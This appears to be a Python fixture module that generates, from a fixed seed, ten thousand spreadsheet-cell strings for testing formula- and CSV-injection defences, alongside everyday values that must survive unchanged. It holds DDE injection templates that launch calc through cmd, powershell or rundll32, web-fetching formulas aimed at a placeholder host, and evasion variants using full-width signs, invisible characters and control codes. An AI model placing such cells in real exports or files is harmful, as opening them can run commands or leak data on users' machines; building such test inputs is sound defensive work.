"""Texts that a spreadsheet would like to act on, by the thousand: always the same ones for the same seed."""

from __future__ import annotations

import random
from collections.abc import Callable

SEED = 20260302
MANY = 10_000
HALF = "=+-@"
FULL = "＝＋－＠"
# What may stand before the sign: nothing, white space of every kind a paste brings, signs in a row, quotes.
BEFORE = [
    *[""] * 14,
    "",
    "",
    "",
    " ",
    "  ",
    "\t",
    "\t\t",
    "\r",
    "\n",
    "\r\n",
    "\u3000",
    "\xa0",
    "\u200b",
    "\ufeff",
    "'",
    '"',
    ";",
]
FUNCTIONS = [
    "SUM",
    "HYPERLINK",
    "WEBSERVICE",
    "IMPORTXML",
    "CALL",
    "EXEC",
    "REGISTER.ID",
    "INDIRECT",
    "CELL",
    "DDE",
]
PROGRAMS = ["cmd", "msexcel", "powershell", "rundll32", "soffice"]
WORDS = [
    "县图书馆",
    "微心愿",
    "1",
    "0.5",
    "1e5",
    "A1",
    "a@b.c",
    "二楼",
    "007",
    "",
    "x",
    "（备注）",
    "&amp;",
    "%0A",
]
# What people write without any thought of formulas: comes back to the sign.
PLAIN = [
    "-5",
    "+0.5",
    "+86 138 0000 0000",
    "+8613800000000",
    "-",
    "+",
    "=",
    "@",
    "—5",
    "1=1",
    "a@b",
    "3/4",
    "2026-3-2",
]


def _case(text: str, pick: random.Random) -> str:
    return "".join(pick.choice((c.lower(), c.upper())) for c in text)


def _formula(pick: random.Random) -> str:
    inside = ",".join(
        pick.choice(['"http://h.invalid/?"&A1', "A1:B9", "1", '"点此"', "Sheet1!A1", "'C:\\a.xls'!A1"])
        for _ in range(pick.randint(0, 3))
    )
    return f"{_case(pick.choice(FUNCTIONS), pick)}({inside}){pick.choice(['', '+1', '*2', ' '])}"


def _dde(pick: random.Random) -> str:
    program = _case(pick.choice(PROGRAMS), pick)
    return pick.choice(
        [
            f"{program}|' /C calc'!A0",
            f"2+3+{program}|'/c calc.exe'!'A1'",
            f'DDE("{program}";"/C calc";"x")',
            f"{program}|'\\..\\..\\x'!_xlbgnm.A1",
        ]
    )


def _numbers(pick: random.Random) -> str:
    return pick.choice(
        ["1+1", "5", "2-3", "0", f"{pick.randint(0, 10**12)}", "1e5", "1/0", "A1", "$B$2", "R1C1"]
    )


def _words(pick: random.Random) -> str:
    return (
        pick.choice(WORDS)
        + pick.choice(["", "，", "\n=1+1", "\r\n@x", '"', "';", "\t-1"])
        + pick.choice(WORDS)
    )


def _control(pick: random.Random) -> str:
    """Signs that no paper prints: every one but NUL, which no form lets through."""
    return chr(pick.choice([*range(1, 32), 127, 0x85, 0x2028, 0x2029, 0xFFFE, 0x202E])) + pick.choice(
        ["", "=1"]
    )


BODIES: list[Callable[[random.Random], str]] = [_formula, _formula, _dde, _numbers, _words, _control]
SIGNS = [*HALF, *HALF, *FULL, *FULL, "==", "=-", "+-@", "{=", "=@", "", "#", "=\n", "＝＝"]


def hostile_cells(many: int = MANY, seed: int = SEED) -> list[str]:
    """``many`` different texts, the plain ones of everyday first."""
    pick = random.Random(seed)
    found = dict.fromkeys(PLAIN)
    while len(found) < many:
        text = pick.choice(BEFORE) + pick.choice(SIGNS) + pick.choice(BODIES)(pick)
        text += pick.choice(["", "", "", "}", '"', "'", " ", "\r\n", "\n=2"])
        if text:
            found[text] = None
    return list(found)[:many]
